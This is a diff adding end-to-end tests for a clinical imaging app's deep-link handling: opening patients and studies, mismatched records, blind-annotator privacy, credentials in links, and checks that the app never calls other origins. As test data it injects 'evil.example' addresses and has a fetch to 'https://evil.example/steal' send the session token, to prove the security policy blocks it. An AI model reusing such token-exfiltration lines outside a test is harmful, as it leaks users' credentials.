@@ -1,0 +1,256 @@
+import { request } from 'node:http';
+import type { Browser, Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { Patient, Study } from '#contracts';
+import { type ApiReader, apiReader } from './support/api.ts';
+import { axeViolations } from './support/axe.ts';
+import { DEMO_PASSWORD, launchBrowser, picture, signIn, visit } from './support/browser.ts';
+import { type Product, startProduct } from './support/product.ts';
+
+const SECRET = 'S3cret-of-a-link';
+
+let product: Product;
+let browser: Browser;
+let ada: Patient;
+let study: Study;
+beforeAll(async () => {
+  product = await startProduct();
+  browser = await launchBrowser();
+  const reader = await apiReader(product, 'physician');
+  ada = await make(reader, '/patients', person('CF-1001', 'Verhoeven'));
+  await make(reader, '/patients', person('CF-1002', 'Rautio'));
+  study = await make(reader, '/studies', { patientId: ada.id, accessionNumber: 'ACC-77' });
+});
+afterAll(async () => {
+  await browser?.close();
+  await product?.stop();
+});
+
+const person = (code: string, lastName: string) => ({
+  ...{ code, lastName, firstName: 'Ismay', birthDate: '1971-03-02', sex: 'FEMALE' },
+});
+
+async function make<T>(reader: ApiReader, path: string, body: object): Promise<T> {
+  const answer = await reader.send('POST', path, body);
+  if (answer.status !== 200) throw new Error(`${path}: ${answer.status} ${await answer.text()}`);
+  return (await answer.json()) as T;
+}
+
+/** Types an address over the one that is open, as another program does. */
+const open = (page: Page, link: string) => page.goto(`${product.url}/${link}`);
+const hashIs = (page: Page, hash: string) => page.waitForURL((address) => address.hash === hash);
+
+async function look(page: Page, name: string): Promise<void> {
+  await page.getByRole('heading', { level: 1 }).waitFor();
+  expect(await axeViolations(page), name).toEqual([]);
+  await picture(page, name);
+}
+
+describe('a link that is right', () => {
+  it('selects the patient, with # and without, ours and in the words of IHE', async () => {
+    const { page, errors, close } = await visit(browser);
+    await signIn(page, product.url, 'physician');
+    for (const link of [
+      '#/external-link?action=openPatient&mrn=CF-1001',
+      'external-link?action=openPatient&mrn=CF-1001',
+      'IHEInvokeImageDisplay?requestType=PATIENT&patientID=CF-1001%5E%5E%5ENorth',
+    ]) {
+      await open(page, link);
+      await hashIs(page, `#/patient-list?patient=${ada.id}`);
+      await page.getByRole('heading', { level: 2, name: /Verhoeven/ }).waitFor();
+      await page.evaluate(() => {
+        window.location.hash = '#/home';
+      });
+      await page.getByText('Welcome, Phil').waitFor();
+    }
+    expect(errors).toEqual([]);
+    await close();
+  });
+
+  it('opens the study, after signing in where that is needed', async () => {
+    const { page, close } = await visit(browser);
+    await open(page, 'external-link?action=openStudy&accession=ACC-77&mrn=CF-1001');
+    await page.getByLabel('E-mail').fill('viewer@demo.clockface.example');
+    expect(page.url()).toContain('/#/login?redirect=%2Fexternal-link%3Faction%3DopenStudy');
+    await page.getByLabel('Password', { exact: true }).fill(DEMO_PASSWORD);
+    await page.getByRole('button', { name: 'Sign in' }).click();
+    await hashIs(page, `#/scan?study=${study.id}`);
+    await close();
+  });
+
+  it('says that a patient has no study yet, and where one begins', async () => {
+    const { page, close } = await visit(browser);
+    await signIn(page, product.url, 'operator');
+    await open(page, '#/external-link?action=openPatient&mrn=CF-1002');
+    await page.getByText('Ismay Rautio has no previous studies.').waitFor();
+    await look(page, 'no-previous-studies');
+    await page.getByRole('button', { name: 'Start scan' }).click();
+    await page.waitForURL((address) => address.hash.startsWith('#/prescan-info?patient='));
+    await page.goBack();
+    await page.getByRole('button', { name: 'Back to Patients' }).click();
+    await page.waitForURL((address) => address.hash.startsWith('#/patient-list'));
+    await close();
+  });
+});
+
+describe('a link that is wrong', () => {
+  it('names a record number that nobody has: the way is to search by name', async () => {
+    const { page, close } = await visit(browser);
+    await signIn(page, product.url, 'physician');
+    await open(page, '#/external-link?action=openPatient&mrn=CF-9999');
+    await hashIs(page, '#/patient-not-found');
+    await page.getByRole('heading', { name: 'Medical Record Not Found' }).waitFor();
+    await page.getByText('The patient with the record number “CF-9999”').waitFor();
+    await look(page, 'link-patient-not-found');
+    await page.keyboard.press('Enter');
+    await hashIs(page, '#/patient-list');
+    await page.getByRole('searchbox').waitFor();
+    expect(await page.getByRole('searchbox').evaluate((one) => one.matches(':focus'))).toBe(true);
+    await close();
+  });
+
+  it('names an accession number that no study has: the way is to search by date', async () => {
+    const { page, close } = await visit(browser);
+    await signIn(page, product.url, 'physician');
+    await open(page, 'external-link?action=openStudy&accession=ACC-00');
+    await page.getByRole('heading', { name: 'Accession Number Not Found' }).waitFor();
+    await look(page, 'link-study-not-found');
+    await page.getByRole('button', { name: 'Search by Date' }).click();
+    await page.waitForURL((address) => address.hash.startsWith('#/study-list'));
+    await close();
+  });
+
+  it('names the study of another patient: both are shown, and a person decides', async () => {
+    const { page, close } = await visit(browser);
+    await signIn(page, product.url, 'physician');
+    const link = '#/external-link?action=openStudy&accession=ACC-77&mrn=CF-1002';
+    await open(page, link);
+    await page.getByRole('heading', { name: 'Patient Information Mismatch' }).waitFor();
+    const card = page.getByRole('alert');
+    for (const shown of ['Rautio, Ismay', 'CF-1002', 'Verhoeven, Ismay', 'CF-1001', 'ACC-77']) {
+      await card.getByText(shown).first().waitFor();
+    }
+    await look(page, 'link-mismatch');
+    await page.getByRole('button', { name: 'Do not open' }).click();
+    await page.waitForURL((address) => address.hash.startsWith('#/patient-list'));
+    await open(page, link);
+    await page.getByRole('button', { name: 'Confirm Patient Info' }).click();
+    await hashIs(page, `#/scan?study=${study.id}`);
+    await close();
+  });
+
+  it('asks for nothing that can be opened, and says so', async () => {
+    const { page, close } = await visit(browser);
+    await signIn(page, product.url, 'physician');
+    await open(page, 'external-link?action=dropTables&mrn=CF-1001');
+    await page.getByRole('heading', { name: 'Failed to open the provided URL.' }).waitFor();
+    await look(page, 'link-failed');
+    await page.getByRole('button', { name: 'Go to Home' }).click();
+    await hashIs(page, '#/home');
+    await close();
+  });
+
+  it('is closed to blind annotators, who learn nothing from it', async () => {
+    const { page, close } = await visit(browser);
+    const asked: string[] = [];
+    page.on('request', (one) => asked.push(one.url()));
+    await signIn(page, product.url, 'annotator');
+    await open(page, '#/external-link?action=openPatient&mrn=CF-1001');
+    await page.getByText('Your role works without patient identities').waitFor();
+    await look(page, 'link-blind');
+    expect(await page.content()).not.toContain('Verhoeven');
+    expect(asked.filter((url) => /\/patients|\/accession/.test(url))).toEqual([]);
+    await close();
+  });
+});
+
+describe('name and password in a link', () => {
+  it('fill in the form on this machine, leave address and history, and are never sent by themselves', async () => {
+    const { page, close } = await visit(browser);
+    const sent: string[] = [];
+    page.on('request', (one) => sent.push(`${one.method()} ${one.url()} ${one.postData() ?? ''}`));
+    const email = 'physician@demo.clockface.example';
+    const query = `action=openPatient&mrn=CF-1001&username=${email}&password=${SECRET}`;
+    await open(page, `external-link?${query}`);
+    await page.getByText('A link has filled in this form').waitFor();
+    expect(await page.getByLabel('E-mail').inputValue()).toBe(email);
+    expect(await page.getByLabel('Password', { exact: true }).inputValue()).toBe(SECRET);
+    expect(page.url()).not.toContain(SECRET);
+    await picture(page, 'link-credentials');
+    await page.waitForTimeout(300);
+    expect(sent.filter((one) => one.includes('login'))).toEqual([]);
+    // The first call is the link itself; nothing that follows carries them.
+    expect(sent.filter((one) => one.includes(SECRET))).toHaveLength(1);
+    await page.getByRole('button', { name: 'Sign in' }).click();
+    await page.getByRole('alert').waitFor();
+    await page.getByLabel('Password', { exact: true }).fill(DEMO_PASSWORD);
+    await page.getByRole('button', { name: 'Sign in' }).click();
+    await hashIs(page, `#/patient-list?patient=${ada.id}`);
+    expect(await page.evaluate(() => JSON.stringify(localStorage))).not.toContain(SECRET);
+    for (let back = 0; back < 3; back += 1) {
+      await page.goBack();
+      expect(page.url()).not.toContain(SECRET);
+    }
+    expect(product.output()).not.toContain(SECRET);
+    await close();
+  });
+
+  it('go no further than the first answer at another address', async () => {
+    const { port } = new URL(product.url);
+    const location = await new Promise<string>((resolve, reject) => {
+      const path = `/external-link?mrn=CF-1001&username=ada&password=${SECRET}`;
+      const headers = { host: 'clinic.example' };
+      request({ host: '127.0.0.1', port, path, headers }, (answer) => {
+        answer.resume();
+        resolve(answer.headers.location ?? '');
+      })
+        .on('error', reject)
+        .end();
+    });
+    expect(location).toBe('./#/external-link?mrn=CF-1001');
+  });
+});
+
+describe('an address that names another place', () => {
+  it('makes the signed-in page ask nobody but its own server, and keeps the token there', async () => {
+    const { page, close } = await visit(browser);
+    await signIn(page, product.url, 'physician');
+    const token = await page.evaluate(() => localStorage.getItem('clockface.token') ?? '');
+    expect(token.length).toBeGreaterThan(20);
+    const asked: { readonly url: string; readonly text: string }[] = [];
+    await page.context().route('**/*', async (route) => {
+      const one = route.request();
+      asked.push({ url: one.url(), text: JSON.stringify(await one.allHeaders()) });
+      if (new URL(one.url()).origin === product.url) await route.continue();
+      else await route.fulfill({ status: 200, body: '{}' });
+    });
+    const evil = encodeURIComponent('https://evil.example/config.json');
+    for (const name of ['url', 'config', 'datasource', 'baseUrl', 'redirect']) {
+      for (const address of [`?${name}=${evil}#/home`, `#/home?${name}=${evil}`]) {
+        await open(page, address);
+        await page.getByText('Welcome, Phil').waitFor();
+      }
+      await open(page, `#/external-link?action=openPatient&mrn=CF-1001&${name}=${evil}`);
+      await hashIs(page, `#/patient-list?patient=${ada.id}`);
+      await page.getByRole('heading', { level: 2, name: /Verhoeven/ }).waitFor();
+    }
+    expect(asked.length).toBeGreaterThan(20);
+    const away = asked.filter(({ url }) => new URL(url).origin !== product.url);
+    expect(away.map(({ url }) => url)).toEqual([]);
+    // The check itself sees a token that goes out, and the policy lets none go elsewhere.
+    expect(asked.some(({ text }) => text.includes(token))).toBe(true);
+    const blocked = await page.evaluate(async (bearer) => {
+      const violation = new Promise<string>((resolve) => {
+        document.addEventListener('securitypolicyviolation', (event) =>
+          resolve(event.effectiveDirective),
+        );
+      });
+      const headers = { authorization: `Bearer ${bearer}` };
+      await fetch('https://evil.example/steal', { headers }).catch(() => undefined);
+      return violation;
+    }, token);
+    expect(blocked).toBe('connect-src');
+    expect(asked.some(({ url }) => url.includes('evil.example/steal'))).toBe(false);
+    await close();
+  });
+});
